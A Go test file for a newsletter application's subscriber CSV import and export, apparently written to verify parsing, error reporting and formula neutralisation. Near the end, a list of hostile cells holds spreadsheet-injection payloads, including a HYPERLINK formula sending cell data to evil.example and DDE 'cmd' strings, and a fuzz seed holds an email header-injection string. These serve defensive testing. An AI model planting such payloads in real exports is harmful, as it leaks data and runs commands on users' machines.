package subscriber

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"testing/iotest"
	"time"

	"newsletter/internal/newsletter"
)

// readAll drives a CSVReader to the end the way an importer does: rows and row
// errors are collected and reading goes on; any other error stops it.
func readAll(r io.Reader) ([]Row, []RowError, error) {
	cr, err := NewCSVReader(r)
	if err != nil {
		return nil, nil, err
	}
	var rows []Row
	var rowErrs []RowError
	for {
		row, err := cr.Next()
		var re RowError
		switch {
		case errors.Is(err, io.EOF):
			return rows, rowErrs, nil
		case errors.As(err, &re):
			rowErrs = append(rowErrs, re)
		case err != nil:
			return rows, rowErrs, err
		default:
			rows = append(rows, row)
		}
	}
}

func TestCSVReader(t *testing.T) {
	may4 := time.Date(2026, time.May, 4, 0, 0, 0, 0, time.UTC)
	tests := []struct {
		name     string
		in       string
		wantRows []Row
		wantErrs []string // RowError.Error() prefixes, in order
	}{
		{
			name: "header in another order, extra column, case",
			in: "Subscribed_At,Notes,NAME,Status,EMAIL\n" +
				"2026-05-04,vip,Ada,active,ada@example.com\n" +
				"2026-05-04T11:30:00+02:00,,Bob,unsubscribed,Bob@Example.COM\n",
			wantRows: []Row{
				{Line: 2, Email: "ada@example.com", Name: "Ada", Status: newsletter.StatusActive, SubscribedAt: may4},
				{Line: 3, Email: "Bob@example.com", Name: "Bob", Status: newsletter.StatusUnsubscribed, SubscribedAt: may4.Add(9*time.Hour + 30*time.Minute)},
			},
		},
		{
			name: "email only, status defaults to active",
			in:   "email\nada@example.com\n",
			wantRows: []Row{
				{Line: 2, Email: "ada@example.com", Status: newsletter.StatusActive},
			},
		},
		{
			name: "bad rows keep their line numbers",
			in: "email,name,status,subscribed_at\n" + // 1
				"ok1@example.com,One,,\n" + // 2
				"not-an-address,Two,,\n" + // 3
				"\n" + // 4: blank, skipped
				"ok2@example.com,\"Multi\nline\",,\n" + // 5-6
				"ok3@example.com,Three,maybe,\n" + // 7
				"ok4@example.com,Four,,yesterday\n" + // 8
				"ok5@example.com,Five\n" + // 9
				"ok6@example.com,\"Six\"x,,\n" + // 10
				"ok7@example.com,Seven,pending,\n", // 11
			wantRows: []Row{
				{Line: 2, Email: "ok1@example.com", Name: "One", Status: newsletter.StatusActive},
				{Line: 5, Email: "ok2@example.com", Name: "Multi line", Status: newsletter.StatusActive},
				{Line: 11, Email: "ok7@example.com", Name: "Seven", Status: newsletter.StatusPending},
			},
			wantErrs: []string{
				`line 3: address "not-an-address": missing @`,
				`line 7: unknown status "maybe"`,
				`line 8: subscribed_at "yesterday"`,
				`line 9: has 2 fields, the header has 4`,
				`line 10: extraneous or missing " in quoted-field`,
			},
		},
		{
			name: "quoted fields with commas and quotes",
			in:   "email,name\n\"ada@example.com\",\"Lovelace, Ada \"\"The Countess\"\"\"\n",
			wantRows: []Row{
				{Line: 2, Email: "ada@example.com", Name: `Lovelace, Ada "The Countess"`, Status: newsletter.StatusActive},
			},
		},
		{
			name: "byte order mark",
			in:   "\uFEFFemail,name\r\nada@example.com,Ada\r\n",
			wantRows: []Row{
				{Line: 2, Email: "ada@example.com", Name: "Ada", Status: newsletter.StatusActive},
			},
		},
		{
			// The reader streams, so it cannot merge: every row of an address comes
			// out, normalised, in file order. The importer treats a later row as an
			// update of the address the earlier one wrote (store.ImportSubscribers).
			name: "duplicates come out in file order",
			in: "email,name,status\n" +
				"ada@example.com,Ada,active\n" +
				"bob@example.com,Bob,active\n" +
				"ADA@EXAMPLE.COM,Ada L.,unsubscribed\n" +
				" ada@Example.com ,Ada Lovelace,unsubscribed\n",
			wantRows: []Row{
				{Line: 2, Email: "ada@example.com", Name: "Ada", Status: newsletter.StatusActive},
				{Line: 3, Email: "bob@example.com", Name: "Bob", Status: newsletter.StatusActive},
				{Line: 4, Email: "ADA@example.com", Name: "Ada L.", Status: newsletter.StatusUnsubscribed},
				{Line: 5, Email: "ada@example.com", Name: "Ada Lovelace", Status: newsletter.StatusUnsubscribed},
			},
		},
		{
			name: "header only",
			in:   "email\n",
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rows, rowErrs, err := readAll(strings.NewReader(tc.in))
			if err != nil {
				t.Fatalf("read: %v", err)
			}
			if len(rows) != len(tc.wantRows) {
				t.Fatalf("got %d rows %+v, want %d", len(rows), rows, len(tc.wantRows))
			}
			for i := range rows {
				got, want := rows[i], tc.wantRows[i]
				if got.Line != want.Line || got.Email != want.Email || got.Name != want.Name ||
					got.Status != want.Status || !got.SubscribedAt.Equal(want.SubscribedAt) {
					t.Errorf("row %d = %+v, want %+v", i, got, want)
				}
				if got.SubscribedAt.Location() != time.UTC {
					t.Errorf("row %d SubscribedAt in %v, want UTC", i, got.SubscribedAt.Location())
				}
			}
			if len(rowErrs) != len(tc.wantErrs) {
				t.Fatalf("got %d row errors %v, want %d", len(rowErrs), rowErrs, len(tc.wantErrs))
			}
			for i, re := range rowErrs {
				if !strings.HasPrefix(re.Error(), tc.wantErrs[i]) {
					t.Errorf("row error %d = %q, want prefix %q", i, re.Error(), tc.wantErrs[i])
				}
			}
		})
	}
}

// TestCSVReaderClipsLongFields: an error quoting a field quotes at most its first 100 bytes,
// so a file of huge bad fields cannot fill the import report.
func TestCSVReaderClipsLongFields(t *testing.T) {
	long := strings.Repeat("z", 10000)
	_, errs, err := readAll(strings.NewReader("email,status,subscribed_at\n" +
		long + "@example.com,,\n" + "a@example.com," + long + ",\n" + "b@example.com,," + long + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	if len(errs) != 3 {
		t.Fatalf("%d row errors, want 3: %v", len(errs), errs)
	}
	for _, e := range errs {
		if msg := e.Error(); len(msg) > 400 || !strings.Contains(msg, "zzz...") {
			t.Errorf("line %d: %d-byte error, want the field clipped: %.200s", e.Line, len(msg), msg)
		}
	}
}

func TestCSVReaderFatal(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"missing email column", "name,status\nAda,active\n", `missing "email" column`},
		{"empty file", "", "empty file"},
		{"duplicate column", "email,Email\na@example.com,b@example.com\n", "appears twice"},
		{"broken header", "email,\"name\n", "header"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rows, rowErrs, err := readAll(strings.NewReader(tc.in))
			if err == nil {
				t.Fatalf("read: no error, rows %v, row errors %v", rows, rowErrs)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %q, want it to say %q", err, tc.want)
			}
		})
	}
}

// TestCSVReaderReadFailure checks that a failing reader ends the read with an
// error that is not a RowError, after the rows that came before it.
func TestCSVReaderReadFailure(t *testing.T) {
	gone := errors.New("disk gone")
	in := io.MultiReader(strings.NewReader("email\nada@example.com\nbad\n"), iotest.ErrReader(gone))
	rows, rowErrs, err := readAll(in)
	if !errors.Is(err, gone) {
		t.Fatalf("error %v, want %v", err, gone)
	}
	var re RowError
	if errors.As(err, &re) {
		t.Fatalf("read failure reported as a row error: %v", err)
	}
	if len(rows) != 1 || rows[0].Email != "ada@example.com" || len(rowErrs) != 1 || rowErrs[0].Line != 3 {
		t.Fatalf("before the failure: rows %+v, row errors %v", rows, rowErrs)
	}
}

func TestCSVRoundTrip(t *testing.T) {
	created := time.Date(2025, time.December, 31, 23, 59, 58, 0, time.FixedZone("CET", 3600))
	subs := []newsletter.Subscriber{
		{Email: "ada@example.com", Name: "Ada Lovelace", Status: newsletter.StatusActive, CreatedAt: created},
		{Email: "Bob@xn--bcher-kva.de", Name: `Bob "Bobby", Jr.`, Status: newsletter.StatusUnsubscribed, CreatedAt: created.Add(time.Hour)},
		{Email: "cy@example.org", Name: "", Status: newsletter.StatusBounced},
		{Email: "dee@example.net", Name: "=SUM(A1)", Status: newsletter.StatusPending, CreatedAt: created},
	}
	var buf bytes.Buffer
	cw := NewCSVWriter(&buf)
	for _, s := range subs {
		if err := cw.Write(s); err != nil {
			t.Fatal(err)
		}
	}
	if err := cw.Flush(); err != nil {
		t.Fatal(err)
	}
	if first, _, _ := strings.Cut(buf.String(), "\n"); first != "email,name,status,subscribed_at" {
		t.Fatalf("header %q", first)
	}

	rows, rowErrs, err := readAll(&buf)
	if err != nil || len(rowErrs) > 0 {
		t.Fatalf("read: %v %v", err, rowErrs)
	}
	if len(rows) != len(subs) {
		t.Fatalf("got %d rows, want %d", len(rows), len(subs))
	}
	for i, s := range subs {
		r := rows[i]
		if r.Line != i+2 || r.Email != s.Email || r.Name != s.Name || r.Status != s.Status || !r.SubscribedAt.Equal(s.CreatedAt) {
			t.Errorf("row %d = %+v, want %+v", i, r, s)
		}
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, fmt.Errorf("disk full") }

func TestCSVWriterReportsErrors(t *testing.T) {
	cw := NewCSVWriter(failWriter{}) // buffered: the failure shows at Flush
	if err := cw.Write(newsletter.Subscriber{Email: "a@example.com"}); err != nil {
		t.Fatal(err)
	}
	if err := cw.Flush(); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("Flush error = %v, want disk full", err)
	}
}

func FuzzCSVReader(f *testing.F) {
	f.Add([]byte("email,name,status,subscribed_at\nada@example.com,Ada,active,2026-05-04\n"))
	f.Add([]byte("\uFEFFEMAIL\r\nBOB@EXAMPLE.COM\r\nbob@example.com\r\n"))
	f.Add([]byte("name,email\n\"x,y\",\"a@b.co\"\n\"unterminated,a@b.co\n"))
	f.Add([]byte("email\na@b.com\r\nBcc: x@y.com\n\"a@b.com\r\nBcc: x@y.com\"\n"))
	f.Add([]byte("email,status\nleser@bücher.de,bounced\nx@y,\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, rowErrs, err := readAll(bytes.NewReader(data))
		if err != nil {
			if len(rows) > 0 || len(rowErrs) > 0 {
				t.Fatalf("fatal error %v with %d rows and %d row errors", err, len(rows), len(rowErrs))
			}
			return
		}
		line := 1
		for _, r := range rows {
			if n, err := NormalizeAddress(r.Email); err != nil || n != r.Email {
				t.Fatalf("row email %q does not normalise to itself: %q, %v", r.Email, n, err)
			}
			if strings.ContainsAny(r.Name, "\r\n") {
				t.Fatalf("name %q has a line break", r.Name)
			}
			if _, err := newsletter.ParseSubscriberStatus(string(r.Status)); err != nil {
				t.Fatalf("row status: %v", err)
			}
			if r.Line <= line {
				t.Fatalf("row line %d after line %d", r.Line, line)
			}
			line = r.Line
		}
		for _, re := range rowErrs {
			if re.Line < 2 || re.Err == nil {
				t.Fatalf("row error %+v", re)
			}
		}
	})
}

func generateCSV(n int) []byte {
	var b bytes.Buffer
	b.WriteString("email,name,status,subscribed_at\n")
	statuses := []string{"active", "active", "active", "unsubscribed", "pending", ""}
	for i := range n {
		fmt.Fprintf(&b, "user%d@Example%d.com,\"User %d, Esq.\",%s,2026-01-%02dT10:00:00Z\n",
			i, i%100, i, statuses[i%len(statuses)], 1+i%28)
	}
	return b.Bytes()
}

func BenchmarkReadCSV(b *testing.B) {
	data := generateCSV(100_000)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		rows, rowErrs, err := readAll(bytes.NewReader(data))
		if err != nil || len(rowErrs) > 0 || len(rows) != 100_000 {
			b.Fatalf("%d rows, %v, %v", len(rows), rowErrs, err)
		}
	}
}

// hostileCells are values a public sign-up or an import can put in a cell, each of which a
// spreadsheet would run as a formula if exported as it is, and some that only look close.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?x="&A2,"Click")`,
	"+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3",
	"\t=1+1",
	"\r=1+1",
	"'=already quoted",
	"''-twice",
	"'plain apostrophe",
	"''",
	"'",
	"O'Brien",
	"a=b",
	" =leading space",
	"",
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	emails := []string{"=1+2@example.com", "-2+3@example.com", "+cmd@example.com", "'=x@example.com", "'o@example.com", "plain@example.com"}
	var subs []newsletter.Subscriber
	for i, name := range hostileCells {
		subs = append(subs, newsletter.Subscriber{Email: emails[i%len(emails)], Name: name, Status: newsletter.StatusActive})
	}
	var buf bytes.Buffer
	cw := NewCSVWriter(&buf)
	for _, s := range subs {
		if err := cw.Write(s); err != nil {
			t.Fatal(err)
		}
	}
	if err := cw.Flush(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if startsFormula(cell) {
				t.Errorf("exported cell %q starts a formula", cell)
			}
		}
	}
	for i, want := range []string{`'=HYPERLINK("http://evil.example/?x="&A2,"Click")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"} {
		if recs[i+1][1] != want {
			t.Errorf("name cell %q, want %q", recs[i+1][1], want)
		}
	}

	rows, rowErrs, err := readAll(&buf)
	if err != nil || len(rowErrs) > 0 {
		t.Fatalf("read: %v %v", err, rowErrs)
	}
	if len(rows) != len(subs) {
		t.Fatalf("got %d rows, want %d", len(rows), len(subs))
	}
	for i, s := range subs {
		// The reader cleans names (tabs and CRs are white space): compare with what an
		// import of the value itself gives.
		if rows[i].Email != s.Email || rows[i].Name != CleanName(s.Name) {
			t.Errorf("row %d = %q %q, want %q %q", i, rows[i].Email, rows[i].Name, s.Email, CleanName(s.Name))
		}
	}
}

func TestRestoreCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"'=x", "=x"},   // neutralised by an export
		{"''=x", "'=x"}, // a value that began with an apostrophe
		{"'x", "'x"},    // an apostrophe no export added
		{"'", "'"},
		{"=x", "=x"}, // saved back by a spreadsheet, which dropped the apostrophe
		{"'\t1", "\t1"},
		{"O'=x", "O'=x"}, // apostrophes inside are data
	} {
		if got := restoreCell(tt.in); got != tt.want {
			t.Errorf("restoreCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func FuzzNeutralCell(f *testing.F) {
	for _, s := range hostileCells {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := neutralCell(s)
		if startsFormula(n) {
			t.Fatalf("neutralCell(%q) = %q starts a formula", s, n)
		}
		if back := restoreCell(n); back != s {
			t.Fatalf("restoreCell(neutralCell(%q)) = %q", s, back)
		}
	})
}

// startsFormula reports whether a spreadsheet would take cell for a formula.
func startsFormula(cell string) bool {
	return cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0
}
